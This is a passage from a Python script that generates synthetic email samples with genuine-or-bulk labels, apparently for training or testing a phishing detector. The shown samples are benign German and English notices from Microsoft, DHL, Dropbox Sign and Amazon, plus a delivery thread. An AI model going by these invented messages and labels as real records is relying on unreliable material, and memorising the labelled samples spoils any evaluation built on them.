         "Anja Budde <a.budde@rheda-antriebe.de>", [addr("wiechers")],
         "Offene-Posten-Liste Kunden-Nr. 10483 – Stand 05.08.2024", body, lang="de", extra=["X-Attach: yes"])

    # L20 -- Entra ID Protection weekly digest
    name = "b13-bulk-entra-id-protection-digest"
    html = html_page(
        '<table width="600" style="font-family:Segoe UI,Arial,sans-serif;font-size:14px"><tr><td style="padding:16px 0">'
        '<b>Microsoft Entra ID Protection</b></td></tr><tr><td><p style="font-size:20px">Weekly digest for '
        'Halvorsen &amp; Kroll Fördertechnik GmbH</p><p>New risky users detected: <b>2</b><br>New risky sign-ins '
        'detected: <b>5</b> (3 real-time, 2 offline)<br>Users at high risk: <b>0</b></p><p><a href="https://entra.'
        'microsoft.com/#view/Microsoft_AAD_IAM/IdentityProtectionMenuBlade/~/RiskyUsers">View risky users</a> | '
        '<a href="https://entra.microsoft.com/#view/Microsoft_AAD_IAM/IdentityProtectionMenuBlade/~/RiskySignIns">'
        'View risky sign-ins</a></p><p style="font-size:11px;color:#666">You are receiving this email because you '
        'are a Global Administrator or Security Administrator of this tenant. <a href="https://entra.microsoft.com/'
        '#view/Microsoft_AAD_IAM/IdentityProtectionMenuBlade/~/WeeklyDigest">Manage notification settings</a><br>'
        'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052. <a href="https://go.microsoft.com/fwlink/'
        '?LinkId=521839">Privacy Statement</a></p></td></tr></table>')
    plain = ("Microsoft Entra ID Protection - weekly digest\n\nNew risky users detected: 2\nNew risky sign-ins detected: 5\n"
             "Users at high risk: 0\n\nView risky users: https://entra.microsoft.com/#view/Microsoft_AAD_IAM/"
             "IdentityProtectionMenuBlade/~/RiskyUsers\n")
    emit("bulk", name, "Genuine Microsoft Entra ID Protection weekly digest from azure-noreply@microsoft.com to "
         "the IT admin (DKIM microsoft.com), with counts only and links to entra.microsoft.com",
         "2025-01-27 06:14:31 +0000",
         microsoft_sender("40.107.236.101", "NAM11-BN8-obe.outbound.protection.outlook.com", "microsoft.com", "US",
                          selector="s1024-meo", host="microsoft.com"),
         "Microsoft Azure <azure-noreply@microsoft.com>", [addr("albers")],
         "Microsoft Entra ID Protection Weekly Digest", alt(name, plain, html, "gen"), bcl=1)

    # L21 -- DHL Express On Demand Delivery notification
    name = "b13-bulk-dhl-express-odd-notification"
    awb = "7731945520"
    track = f"https://www.dhl.com/de-de/home/tracking/tracking-express.html?submit=1&tracking-id={awb}"
    odd = f"https://odd.dhl.com/de/de/?awb={awb}&t={h(name, 't', 20)}"
    html = html_page(
        '<table width="600" style="font-family:Arial,sans-serif;font-size:14px"><tr><td style="background:#ffcc00;'
        'padding:14px"><b style="color:#d40511;font-size:22px">DHL</b> <b>EXPRESS</b></td></tr><tr><td style="'
        'padding:16px"><p>Ihre Sendung <b>' + awb + '</b> von <b>CALDER BEARINGS LTD</b> wird voraussichtlich am '
        '<b>Mittwoch, 26.06.2024</b> zwischen 09:00 und 12:00 Uhr zugestellt.</p><p>Empfänger: Halvorsen &amp; Kroll '
        'Fördertechnik GmbH, Wareneingang, Paderborn<br>Zollabfertigung: abgeschlossen, keine Abgaben fällig</p>'
        f'<p><a href="{track}">Sendung verfolgen</a> &middot; <a href="{odd}">Zustelloptionen ändern</a></p>'
        '<p style="font-size:11px;color:#777">Dies ist eine automatisch erzeugte E-Mail, bitte antworten Sie nicht. '
        'DHL Express Germany GmbH, Heinrich-Brüning-Str. 5, 53113 Bonn</p></td></tr></table>', "de")
    plain = (f"Ihre Sendung {awb} von CALDER BEARINGS LTD wird voraussichtlich am Mittwoch, 26.06.2024 zwischen 09:00 "
             f"und 12:00 Uhr zugestellt.\nZollabfertigung: abgeschlossen, keine Abgaben fällig\n\nSendung verfolgen: "
             f"{track}\nZustelloptionen ändern: {odd}\n")
    emit("bulk", name, "Genuine DHL Express On Demand Delivery notice from noreply.odd@dhl.com (dhl.com DKIM) "
         "for an inbound shipment from a known supplier: customs already cleared, no fee, links only on dhl.com",
         "2024-06-24 07:48:00 +0200",
         Sender("esp", "165.72.200.17", "mail201.dhl.com", "DE", dkim_d="dhl.com", selector="dhl2048",
                host="dhl.com"),
         "DHL Express <noreply.odd@dhl.com>", [addr("nowak")],
         f"DHL On Demand Delivery: Ihre Sendung {awb} kommt am Mittwoch", alt(name, plain, html, "java"),
         lang="de", bcl=3)

    # L22 -- genuine Microsoft Purview Message Encryption from the insurance broker
    name = "b13-clean-purview-encrypted-broker-real"
    rcpt = P["schomaker"][1]
    org = base64.b64encode(b"owl-versicherungsmakler.de").decode()
    url = (f"https://outlook.office365.com/Encryption/retrieve.ashx?recipientemailaddress={urllib.parse.quote(rcpt)}"
           f"&senderemailaddress=h.strunk%40owl-versicherungsmakler.de&senderorganization={urllib.parse.quote(org)}"
           f"&messageid=%3c{h(name, 'omid', 32)}%40FR3P281MB{num(name, 'fr', 1000, 9999)}.DEUP281.PROD.OUTLOOK.COM%3e"
           f"&cfmRecipient={urllib.parse.quote(rcpt)}&consumerEncryption=false&senderorgid={guid(name, 'org')}"
           "&urlversion=1&a=1")
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:600px"><div style="background:#f3f2f1;'
        'padding:16px 24px"><b>OWL Versicherungsmakler GmbH</b></div><div style="padding:24px"><p style="font-size:'
        '20px">Heiko Strunk (h.strunk@owl-versicherungsmakler.de) has sent you a protected message.</p>'
        f'{button(url, "Read the message")}<p style="font-size:12px;color:#605e5c;margin-top:28px"><a href="https:'
        '//go.microsoft.com/fwlink/?LinkId=809814">Learn about messages protected by Microsoft Purview Message '
        'Encryption</a>.<br><a href="https://privacy.microsoft.com/privacystatement">Privacy Statement</a><br>Email '
        'encryption powered by Microsoft 365. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div>'
        '</div>')
    plain = (f"Heiko Strunk (h.strunk@owl-versicherungsmakler.de) has sent you a protected message.\n\nRead the message: "
             f"{url}\n\nLearn about messages protected by Microsoft Purview Message Encryption.\n")
    emit("clean", name, "Genuine Microsoft Purview Message Encryption wrapper from the company's insurance broker "
         "(authenticated Microsoft 365 sender, branded with the broker's name): Read the message goes to "
         "outlook.office365.com/Encryption/retrieve.ashx",
         "2025-02-18 11:37:26 +0100", m365_tenant_sender("52.101.68.95", "DEU01", "DE"),
         "Heiko Strunk <h.strunk@owl-versicherungsmakler.de>", [addr("schomaker")],
         "Verschlüsselt: Gruppenunfallversicherung – Mitarbeiterliste 2025", alt(name, plain, html, "outlook"),
         extra=["X-MS-Exchange-Organization-MessageHighPrecisionLatencyInProgress: true",
                "X-MS-Exchange-OMEMessageState: Encrypted"])

    # L23 -- customer delivery-date thread (German, plain)
    name = "b13-clean-customer-delivery-thread"
    prev = f"<FR2P281MB1734{h(name, 'prev', 20).upper()}@FR2P281MB1734.DEUP281.PROD.OUTLOOK.COM>"
    plain = ("Hallo Frau Vogt,\n\ndanke für die schnelle Rückmeldung. KW 32 passt uns, bitte aber Anlieferung erst ab "
             "Dienstag, am Montag ist unsere Rampe mit der Inventur belegt. Anlieferung bitte an Tor 4, Ansprechpartner "
             "vor Ort ist Herr Jessen (0171 5530 218).\n\nGibt es schon eine Sendungsnummer von der Spedition?\n\n"
             "Viele Grüße\nKerstin Vahle\nDisposition\nNordmark Distribution GmbH\n\n"
             "Von: Lena Vogt <l.vogt@halkroll.de>\nGesendet: Mittwoch, 31. Juli 2024 16:20\nAn: Kerstin Vahle "
             "<k.vahle@nordmark-distribution.de>\nCc: Marek Nowak <m.nowak@halkroll.de>\nBetreff: Liefertermin KW 32 "
             "– Auftrag 24-1188\n\nHallo Frau Vahle,\n\ndie Kurvenmodule für Auftrag 24-1188 sind fertig, wir könnten "
             "in KW 32 liefern. Passt Ihnen das?\n\nViele Grüße\nLena Vogt\n")
    body_html = paras(plain)
    emit("clean", name, "Ordinary German reply in a delivery-scheduling thread from a known customer's dispatcher "
         "(authenticated), quoting the sales clerk's message; no links, no attachment, no payment topic",
         "2024-08-01 11:48:30 +0200", m365_tenant_sender("52.101.70.44", "DEU01", "DE"),
         "Kerstin Vahle <k.vahle@nordmark-distribution.de>", [addr("vogt")],
         "AW: Liefertermin KW 32 – Auftrag 24-1188", outlook_alt(name, plain, body_html), cc=[addr("nowak")],
         lang="de", in_reply_to=prev, references=prev)

    # L24 -- genuine Dropbox Sign request from the staffing agency
    name = "b13-bulk-dropbox-sign-staffing-agency"
    link = f"https://app.hellosign.com/sign/{h(name, 'sig', 40)}"
    html = html_page(
        '<table width="560" align="center" style="font-family:Arial,sans-serif;font-size:14px"><tr><td style="'
        'padding:18px 0"><b style="color:#0061fe">Dropbox Sign</b></td></tr><tr><td><p style="font-size:18px">'
        'Carina Meyer hat Sie gebeten, „Rahmenvertrag Arbeitnehmerüberlassung 2026“ zu unterschreiben</p>'
        '<p style="background:#f7f5f2;padding:12px">„Hallo Frau Schomaker, wie besprochen der Rahmenvertrag für '
        '2026 mit den neuen Verrechnungssätzen. Viele Grüße, Carina Meyer“</p>'
        f'<p><a href="{link}" style="background:#0061fe;color:#fff;padding:10px 22px;text-decoration:none">Dokument '
        'prüfen und unterschreiben</a></p><p style="font-size:11px;color:#777">Gesendet von carina.meyer@'
        'personalpartner-owl.de über Dropbox Sign. Antworten auf diese E-Mail gehen an die Absenderin.<br>Dropbox, '
        'Inc., 1800 Owens St, San Francisco, CA 94158</p></td></tr></table>', "de")
    plain = ("Carina Meyer hat Sie gebeten, „Rahmenvertrag Arbeitnehmerüberlassung 2026“ zu unterschreiben.\n\n"
             f"„Hallo Frau Schomaker, wie besprochen der Rahmenvertrag für 2026 ...“\n\nDokument prüfen: {link}\n")
    emit("bulk", name, "Genuine Dropbox Sign request from noreply@mail.hellosign.com (DKIM mail.hellosign.com) on "
         "behalf of the staffing agency HR works with; link on app.hellosign.com, Reply-To the agency contact",
         "2025-12-02 14:05:51 +0100",
         sendgrid("168.245.37.12", dkim_d="mail.hellosign.com"),
         "Dropbox Sign <noreply@mail.hellosign.com>", [addr("schomaker")],
         "Carina Meyer hat Sie gebeten, „Rahmenvertrag Arbeitnehmerüberlassung 2026“ zu unterschreiben",
         alt(name, plain, html, "sendgrid"), lang="de", reply_to="Carina Meyer <carina.meyer@personalpartner-owl.de>",
         bcl=1)

    # L25 -- Amazon.de order confirmation
    name = "b13-bulk-amazon-order-confirmation"
    order = f"302-{num(name, 'o1', 1000000, 9999999)}-{num(name, 'o2', 1000000, 9999999)}"
    link = f"https://www.amazon.de/gp/css/order-details?orderID={order}&ref_=pe_28126711_1040683371_TE_simp_od"
    html = html_page(
        '<table width="600" style="font-family:Arial,sans-serif;font-size:14px"><tr><td style="padding:12px 0">'
        '<b>amazon</b>.de</td></tr><tr><td><p>Hallo Marek Nowak,</p><p>vielen Dank für Ihre Bestellung. Wir senden '
        'Ihnen eine Bestätigung, sobald Ihre Artikel versandt wurden.</p><p><b>Bestellnummer:</b> ' + order +
        '<br><b>Zustellung:</b> Donnerstag, 15. Januar<br><b>Lieferadresse:</b> Halvorsen &amp; Kroll, Versand, '
        'Technologiepark 18, 33100 Paderborn</p><p>Brother TZe-231 Schriftband 12 mm, 5 Stück<br>'
        'Zebra Thermotransfer-Etiketten 100x150 mm, 4 Rollen<br>Tesa Packband 50 mm, 36 Rollen</p><p><b>Summe: '
        f'212,47 EUR</b></p><p><a href="{link}">Bestelldetails anzeigen</a></p><p style="font-size:11px;color:#777">'
        'Diese E-Mail wurde von einer Adresse gesendet, die eingehende E-Mails nicht empfangen kann. Amazon EU '
        'S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg</p></td></tr></table>', "de")
    plain = (f"Hallo Marek Nowak,\n\nvielen Dank für Ihre Bestellung.\n\nBestellnummer: {order}\nZustellung: Donnerstag, "
             f"15. Januar\n\nSumme: 212,47 EUR\n\nBestelldetails anzeigen: {link}\n")
    emit("bulk", name, "Genuine Amazon.de order confirmation for warehouse consumables from "
         "bestellbestaetigung@amazon.de via Amazon SES with amazon.de DKIM, links only to amazon.de",
         "2026-01-13 10:21:47 +0100",
         ses("54.240.3.10", "amazon.de", "IE", "eu-west-1", dkim_d="amazon.de", selector="amazon201209",
             mailfrom=f"{h(name, 'mf', 32)}@bounces.amazon.de"),
         "Amazon.de <bestellbestaetigung@amazon.de>", [addr("nowak")],
         "Ihre Amazon.de Bestellung von „Brother TZe-231 Schriftband...“ und 2 weiteren Artikeln",
         alt(name, plain, html, "ses"), lang="de", bcl=2)


# ================================================================ output

def main() -> None:
    phishing()
    legitimate()
    names = [s[1] for s in SAMPLES]
    assert len(names) == len(set(names)), "duplicate sample names"
    lines = []
    for category, name, description, raw in SAMPLES:
        path = MAIL / category / f"{name}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{category}/{name}.eml | {category} | {description}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for category, *_ in SAMPLES:
        counts[category] = counts.get(category, 0) + 1
    print(", ".join(f"{k}: {v}" for k, v in sorted(counts.items())), f"(total {len(SAMPLES)})")


if __name__ == "__main__":
    main()
